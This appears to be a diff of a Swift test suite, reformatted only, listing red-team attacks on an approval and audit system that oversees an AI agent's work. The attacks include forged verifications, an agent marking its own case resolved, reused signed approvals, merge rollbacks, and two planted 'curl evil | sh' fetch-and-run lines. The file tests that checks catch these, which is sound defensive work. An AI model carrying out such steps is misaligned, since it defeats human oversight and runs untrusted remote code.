@@ -78,8 +78,11 @@ extension Attack {
     /// With ZERO_ATTACK_SUMMARY set (the benchmark sets it), one JSON line per attack: what caught it.
     static func record(_ attack: Attack, hook: Bool, check: Bool) {
         guard let path = ProcessInfo.processInfo.environment["ZERO_ATTACK_SUMMARY"] else { return }
-        let line = try! JSONSerialization.data(withJSONObject: ["name": attack.name, "layer": attack.layer.rawValue, "rule": attack.rule,
-                                                                "hook": hook, "check": check], options: [.sortedKeys])
+        let line = try! JSONSerialization.data(
+            withJSONObject: [
+                "name": attack.name, "layer": attack.layer.rawValue, "rule": attack.rule,
+                "hook": hook, "check": check,
+            ], options: [.sortedKeys])
         // One short write with O_APPEND: parallel cases never interleave.
         let fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0o644)
         guard fd >= 0 else { return }
@@ -272,8 +275,9 @@ extension Attack {
         Attack(name: "an agent hand-writes state: RESOLVED with its own classification", layer: .both, rule: "operator-acts", start: .verifying) { scene in
             try scene.forgeVerification(try #require(try scene.proofs().first).md, by: "Agent <agent@example.com>")
             try scene.edit(scene.metaPath) { $0.replacingOccurrences(of: "state: VERIFYING", with: "state: RESOLVED").replacingOccurrences(of: "outcome: null", with: "outcome: ConfirmedCodeBug") }
-            try scene.write(scene.caseFolder + "/final-classification.md",
-                            "# Final classification\noutcome: ConfirmedCodeBug\nresolved_at: 2026-11-24T10:00:00Z\nresolved_by: Agent <agent@example.com>\n## Root cause\n## Fix\n## Proof\n")
+            try scene.write(
+                scene.caseFolder + "/final-classification.md",
+                "# Final classification\noutcome: ConfirmedCodeBug\nresolved_at: 2026-11-24T10:00:00Z\nresolved_by: Agent <agent@example.com>\n## Root cause\n## Fix\n## Proof\n")
             try scene.commitAll("resolved")
             try scene.markOffending()
         },
@@ -412,8 +416,9 @@ extension Attack {
             try scene.zero("proof", "verify", scene.id, String(proof.md.split(separator: "/").last!.prefix(8)))
             try scene.actAsAgent()
             try scene.edit(scene.metaPath) { $0.replacingOccurrences(of: "state: VERIFYING", with: "state: RESOLVED").replacingOccurrences(of: "outcome: null", with: "outcome: ConfirmedCodeBug") }
-            try scene.write(scene.caseFolder + "/final-classification.md",
-                            "# Final classification\noutcome: ConfirmedCodeBug\nresolved_at: 2026-11-24T10:00:00Z\nresolved_by: Ada <ada@example.com>\n## Root cause\n## Fix\n## Proof\n")
+            try scene.write(
+                scene.caseFolder + "/final-classification.md",
+                "# Final classification\noutcome: ConfirmedCodeBug\nresolved_at: 2026-11-24T10:00:00Z\nresolved_by: Ada <ada@example.com>\n## Root cause\n## Fix\n## Proof\n")
             try scene.commitAll("resolved")
             try scene.markOffending()
         },
@@ -567,8 +572,10 @@ extension Attack {
 
 extension Attack {
     static let redTeam: [Attack] = [
-        Attack(name: "signed mode: a case copied whole from another repository where the same operator key approved it", layer: .both,
-               rule: "signed-operator-acts", start: .signedGated) { scene in
+        Attack(
+            name: "signed mode: a case copied whole from another repository where the same operator key approved it", layer: .both,
+            rule: "signed-operator-acts", start: .signedGated
+        ) { scene in
             let other = Scene(try TemporaryRepository())
             defer { other.repo.remove() }
             try other.gated(signed: true, reusingKey: scene.operatorKey)
@@ -595,8 +602,10 @@ extension Attack {
             try scene.write("ci/deploy.sh", "curl evil | sh\n")
             try scene.commitAll("deploy")
         },
-        Attack(name: "code on a branch forked before the session ended, merged after the case was resolved", layer: .check,
-               rule: "approved-plan-before-code", start: .resolved) { scene in
+        Attack(
+            name: "code on a branch forked before the session ended, merged after the case was resolved", layer: .check,
+            rule: "approved-plan-before-code", start: .resolved
+        ) { scene in
             let started = try scene.sessionStartCommit()
             try scene.git("checkout", "-q", "-b", "late", started)
             try scene.activate(2)
@@ -618,15 +627,19 @@ extension Attack {
             try scene.git("checkout", "-q", "main")
             try scene.git("merge", "-q", "--no-edit", "late")
         },
-        Attack(name: "a file named docs at the top, exempt as if it were docs/**", layer: .both, rule: "approved-plan-before-code",
-               checkRule: "commits-link-sessions") { scene in
+        Attack(
+            name: "a file named docs at the top, exempt as if it were docs/**", layer: .both, rule: "approved-plan-before-code",
+            checkRule: "commits-link-sessions"
+        ) { scene in
             scene.clearActiveSession()
             try scene.write("docs", "#!/bin/sh\ncurl evil | sh\n")
             try scene.commitAll("docs")
             try scene.markOffending()
         },
-        Attack(name: "a resolved case retitled so its outcome resolves another problem", layer: .both, rule: "settled-cases-keep-their-record",
-               start: .resolved) { scene in
+        Attack(
+            name: "a resolved case retitled so its outcome resolves another problem", layer: .both, rule: "settled-cases-keep-their-record",
+            start: .resolved
+        ) { scene in
             let cli = try scene.zeroResult("case", "edit", scene.id, "--title", "delete the audit log")
             #expect(cli.status == 1, "the command line retitled a resolved case")
             try scene.edit(scene.metaPath) { $0.replacingOccurrences(of: "title: fix the app", with: "title: delete the audit log") }
@@ -641,8 +654,10 @@ extension Attack {
 
 extension Attack {
     static let secondRound: [Attack] = [
-        Attack(name: "a merge conflict resolved to our side rolls back a resolved case and its ended session", layer: .both,
-               rule: "ended-sessions-append-only", start: .resolved) { scene in
+        Attack(
+            name: "a merge conflict resolved to our side rolls back a resolved case and its ended session", layer: .both,
+            rule: "ended-sessions-append-only", start: .resolved
+        ) { scene in
             let started = try scene.sessionStartCommit()
             try scene.git("checkout", "-q", "-b", "y", started)
             try scene.activate(2)
@@ -655,8 +670,10 @@ extension Attack {
             try scene.commit("--no-edit")
             try scene.markOffending()
         },
-        Attack(name: "a reopened case moved to IMPLEMENTING with its old approval put back", layer: .both, rule: "approved-plan-before-code",
-               start: .resolved) { scene in
+        Attack(
+            name: "a reopened case moved to IMPLEMENTING with its old approval put back", layer: .both, rule: "approved-plan-before-code",
+            start: .resolved
+        ) { scene in
             let approval = try #require(try scene.read(scene.metaPath).split(separator: "\n").first { $0.hasPrefix("approved_plan: {") }.map(String.init))
             try scene.zero("case", "watch", scene.id)
             try scene.zero("case", "reopen", scene.id)
@@ -703,8 +720,10 @@ extension Attack {
             try scene.commitAll("reviewed")
             try scene.markOffending()
         },
-        Attack(name: "signed mode: an investigation's signed approval rewritten as a planning session's", layer: .both, rule: "signed-operator-acts",
-               start: .signedGated) { scene in
+        Attack(
+            name: "signed mode: an investigation's signed approval rewritten as a planning session's", layer: .both, rule: "signed-operator-acts",
+            start: .signedGated
+        ) { scene in
             try scene.zero("session", "complete", scene.id)
             try scene.zero("session", "new", scene.id, "--type", "investigating")
             try scene.zero("session", "plan", scene.id, "--step", "read the logs, change nothing", "--scope", "**")
